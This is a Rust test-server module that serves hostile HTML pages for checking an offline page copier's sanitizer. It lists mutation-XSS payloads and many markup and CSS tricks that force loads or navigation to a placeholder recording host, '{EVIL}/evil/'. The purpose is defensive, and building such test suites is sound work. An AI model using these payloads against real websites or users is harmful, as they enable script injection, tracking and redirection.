//! Hostile pages for the offline copy: known mutation-XSS payloads (markup
//! a sanitizer reads as text and a browser, parsing the output again, reads
//! as elements, through MathML, SVG, `<style>`, `<noscript>`, `<template>`
//! and tables) and every way a page can make a browser load or navigate
//! (meta refresh, `<base>`, forms, `srcdoc`, `javascript:` and `data:` URLs,
//! CSS `url()`, `@import` and fonts, resource hints, `srcset`, objects, SVG
//! links, images and animations, handlers).
//!
//! Each payload names the server that serves it as `{EVIL}`: every load or
//! navigation one of them achieves in a browser reaches that server, which
//! records every request (`Web::requests`), under `/evil/`.
//!
//! Routes: `/hostile/all` (every payload on one page), `/hostile/<name>`
//! (one), `/hostile/fuzzed` (the page that made the offline renderer panic).

use axum::http::StatusCode;
use axum::response::Response;

use super::{Asked, html};

/// `(name, markup)`; `{EVIL}` stands for `http://host:port` of the server.
pub const PAYLOADS: &[(&str, &str)] = &[
    // ---- mutation XSS: namespaces, raw text, foster parenting ----
    (
        "mxss-math-table-mglyph-style-meta",
        r#"<math><mtext><table><mglyph><style><meta http-equiv="refresh" content="0;url={EVIL}/evil/mxss-meta">"#,
    ),
    (
        "mxss-math-table-mglyph-style-img",
        r#"<math><mtext><table><mglyph><style><img src="{EVIL}/evil/mxss-img">"#,
    ),
    (
        "mxss-math-h1-mglyph-svg-style",
        r#"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src='{EVIL}/evil/mxss-h1'>">"#,
    ),
    (
        "mxss-form-math-mglyph-style",
        r#"<form><math><mtext></form><form><mglyph><style></math><img src="{EVIL}/evil/mxss-form">"#,
    ),
    (
        "mxss-math-annotation-xml-style",
        r#"<math><annotation-xml encoding="text/html"><style><img src="{EVIL}/evil/mxss-annotation"></style></annotation-xml></math>"#,
    ),
    (
        "mxss-math-mi-svg-iframe-comment",
        r#"<math><mi><svg><iframe><!--</iframe><img src="{EVIL}/evil/mxss-mi">--></iframe></svg></mi></math>"#,
    ),
    (
        "mxss-svg-p-style",
        r#"<svg></p><style><a id="</style><img src='{EVIL}/evil/mxss-svg-p'>">"#,
    ),
    (
        "mxss-svg-foreignobject-xmp",
        r#"<svg><foreignObject><table><path><xmp><!--</xmp><img title='--><img src="{EVIL}/evil/mxss-xmp">'>"#,
    ),
    (
        "mxss-noscript-title",
        r#"<noscript><p title="</noscript><img src='{EVIL}/evil/mxss-noscript'>"></p></noscript>"#,
    ),
    (
        "mxss-noscript-style",
        r#"<noscript><style></noscript><img src="{EVIL}/evil/mxss-noscript-style"></style></noscript>"#,
    ),
    (
        "mxss-template-style",
        r#"<template><style></template><img src="{EVIL}/evil/mxss-template"></style></template>"#,
    ),
    (
        "mxss-select-template-style",
        r#"<select><template><style><!--</style><a rel="--></template></select><img src='{EVIL}/evil/mxss-select'>">"#,
    ),
    (
        "mxss-style-break-out",
        r#"<style>p{color:red}</style ><img src="{EVIL}/evil/style-break"><style>a{}</STYLE><img src="{EVIL}/evil/style-break2">"#,
    ),
    // ---- navigation ----
    (
        "meta-refresh",
        r#"<meta http-equiv="refresh" content="0;url={EVIL}/evil/refresh"><META HTTP-EQUIV=Refresh CONTENT="0; URL={EVIL}/evil/refresh2">"#,
    ),
    (
        "base-href",
        r#"<base href="{EVIL}/evil/base/"><img src="x.png"><a href="y.html">y</a><link rel=stylesheet href="s.css">"#,
    ),
    (
        "form-action",
        r#"<form action="{EVIL}/evil/form" method=post><input name=q value=x><button formaction="{EVIL}/evil/formaction">Go</button><input type=submit></form>"#,
    ),
    (
        "iframe-srcdoc",
        r#"<iframe srcdoc="<meta http-equiv=refresh content='0;url={EVIL}/evil/srcdoc'><img src={EVIL}/evil/srcdoc-img>"></iframe>"#,
    ),
    (
        "javascript-urls",
        r#"<iframe src="javascript:location='{EVIL}/evil/js-iframe'"></iframe><object data="javascript:location='{EVIL}/evil/js-object'"></object><a id=js href="javascript:location='{EVIL}/evil/js-link'">js</a>"#,
    ),
    (
        "data-html-urls",
        r#"<iframe src="data:text/html,<img src={EVIL}/evil/data-iframe>"></iframe><embed src="data:text/html,<img src={EVIL}/evil/data-embed>"><object data="data:text/html,<img src={EVIL}/evil/data-object>"></object>"#,
    ),
    (
        "handlers",
        r#"<img src=x onerror="location='{EVIL}/evil/onerror'"><svg onload="location='{EVIL}/evil/svg-onload'"></svg><details open ontoggle="location='{EVIL}/evil/ontoggle'"><summary>s</summary></details><body onload="location='{EVIL}/evil/onload'">"#,
    ),
    (
        "scripts",
        r#"<script src="{EVIL}/evil/script.js"></script><script>location='{EVIL}/evil/inline-script'</script><script type=module>import '{EVIL}/evil/module.js'</script>"#,
    ),
    // ---- loads through CSS ----
    (
        "css-url-attribute",
        r#"<div style="background:url({EVIL}/evil/css-attr)">x</div><p style="background-image:URL('{EVIL}/evil/css-attr-upper')">y</p>"#,
    ),
    (
        "css-url-sheet",
        r#"<style>body{background:url('{EVIL}/evil/css-sheet')} li{list-style:url({EVIL}/evil/css-list)} p{cursor:url({EVIL}/evil/css-cursor),auto;border-image:url({EVIL}/evil/css-border) 30}</style><ul><li>l</li></ul><p>p</p>"#,
    ),
    (
        "css-escaped-url",
        r#"<style>p{background:u\72l({EVIL}/evil/css-escaped)} q{background:\75 rl({EVIL}/evil/css-escaped2)}</style><p>p</p><q>q</q>"#,
    ),
    (
        "css-import",
        r#"<style>@import '{EVIL}/evil/import.css';</style><style>@\69mport url({EVIL}/evil/import-escaped.css);</style>"#,
    ),
    (
        "css-font-face",
        r#"<style>@font-face{font-family:evil;src:url({EVIL}/evil/font.woff2) format("woff2")} p{font-family:evil}</style><p>text</p>"#,
    ),
    (
        "css-image-set",
        r#"<style>div{background-image:image-set("{EVIL}/evil/image-set.png" 1x);} span{background-image:-webkit-image-set(url({EVIL}/evil/webkit-image-set.png) 1x)}</style><div>d</div><span>s</span>"#,
    ),
    // ---- resource hints and links ----
    (
        "link-hints",
        r#"<link rel=prefetch href="{EVIL}/evil/prefetch"><link rel=preload as=image href="{EVIL}/evil/preload"><link rel=preconnect href="{EVIL}"><link rel=dns-prefetch href="{EVIL}"><link rel=modulepreload href="{EVIL}/evil/modulepreload.js"><link rel=stylesheet href="{EVIL}/evil/sheet.css"><link rel=icon href="{EVIL}/evil/icon.png"><link rel=manifest href="{EVIL}/evil/manifest">"#,
    ),
    (
        "xml-stylesheet",
        r#"<?xml-stylesheet type="text/xsl" href="{EVIL}/evil/xslt"?><p>x</p>"#,
    ),
    // ---- images, media, objects ----
    (
        "img-srcset",
        r#"<img srcset="{EVIL}/evil/srcset.png 1x, {EVIL}/evil/srcset2.png 2x" alt=a><img src="data:image/png;base64,iVBORw0KGgo=" srcset="{EVIL}/evil/srcset3.png 2x" alt=b><picture><source srcset="{EVIL}/evil/source.png"><img alt=c></picture>"#,
    ),
    (
        "object-embed",
        r#"<object data="{EVIL}/evil/object"></object><embed src="{EVIL}/evil/embed"><embed type="text/html" src="{EVIL}/evil/embed-html">"#,
    ),
    (
        "media",
        r#"<video poster="{EVIL}/evil/poster.png" autoplay><source src="{EVIL}/evil/video.mp4"><track src="{EVIL}/evil/track.vtt"></video><audio src="{EVIL}/evil/audio.mp3" autoplay></audio>"#,
    ),
    (
        "background-attributes",
        r#"<table background="{EVIL}/evil/table-bg.png"><tr><td background="{EVIL}/evil/td-bg.png">x</td></tr></table><input type=image src="{EVIL}/evil/input.png" alt=i>"#,
    ),
    (
        "lazy-and-protocol-relative",
        r#"<img loading=lazy src="{EVIL}/evil/lazy.png" alt=l><img src="//{EVIL_HOST}/evil/protocol-relative.png" alt=p>"#,
    ),
    // ---- SVG ----
    (
        "svg-a-xlink-href",
        r#"<svg width=40 height=40><a xlink:href="javascript:location='{EVIL}/evil/svg-a'"><text y=20>t</text></a><a href="{EVIL}/evil/svg-a-web"><text y=30>w</text></a></svg>"#,
    ),
    (
        "svg-references",
        r#"<svg width=40 height=40><image href="{EVIL}/evil/svg-image.png" width=10 height=10/><image xlink:href="{EVIL}/evil/svg-xlink-image.png" width=10 height=10/><use href="{EVIL}/evil/use.svg#x"/><rect width=10 height=10 fill="url({EVIL}/evil/fill.svg#g)" style="stroke:url({EVIL}/evil/stroke.svg#s)"/><filter id=f><feImage href="{EVIL}/evil/feimage.png"/></filter><rect filter="url(#f)" width=5 height=5/></svg>"#,
    ),
    (
        "svg-animate-set-href",
        r#"<svg width=40 height=40><a><animate attributeName=href values="javascript:location='{EVIL}/evil/animate'"/><text y=20>click</text></a><image width=10 height=10><set attributeName=href to="{EVIL}/evil/set.png"/></image><a><set attributeName="xlink:href" to="{EVIL}/evil/set-xlink"/><text y=30>s</text></a></svg>"#,
    ),
    (
        "svg-in-img",
        r#"<img alt=svg src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/evil/svg-in-img'/></svg>">"#,
    ),
    (
        "math-href",
        r#"<math href="{EVIL}/evil/math-href"><mi>x</mi></math>"#,
    ),
    // A plain link is kept: following it is a person's choice, never a load.
    (
        "plain-link",
        r#"<p><a href="{EVIL}/evil/plain-link">a link</a></p>"#,
    ),
];

/// The fuzzed page that made the offline renderer panic (issue 11, item 3).
pub const FUZZED: &str =
    r#"<a x><noscript>&<link rel=stylesheet href="<input type=image src="<template>П<a href="q">"#;

/// A payload made concrete for the server at `base` (`http://host:port`).
pub fn payload(markup: &str, base: &str) -> String {
    let host = base.trim_start_matches("http://");
    markup.replace("{EVIL}", base).replace("{EVIL_HOST}", host)
}

/// Every payload on one page, each in an `<article>` of its own.
pub fn all(base: &str) -> String {
    let mut page = String::from("<!DOCTYPE html><html><head><title>Hostile</title></head><body>");
    for (name, markup) in PAYLOADS {
        page.push_str(&format!(
            "<article id=\"{name}\"><h2>{name}</h2>{}</article>",
            payload(markup, base)
        ));
    }
    page.push_str("</body></html>");
    page
}

pub fn answer(asked: &Asked) -> Option<Response> {
    let base = format!("http://{}", asked.host());
    let name = asked.path().strip_prefix("/hostile/")?;
    let page = match name {
        "all" => all(&base),
        "fuzzed" => FUZZED.to_string(),
        _ => {
            let (_, markup) = PAYLOADS.iter().find(|(n, _)| *n == name)?;
            payload(markup, &base)
        }
    };
    Some(html(StatusCode::OK, page))
}
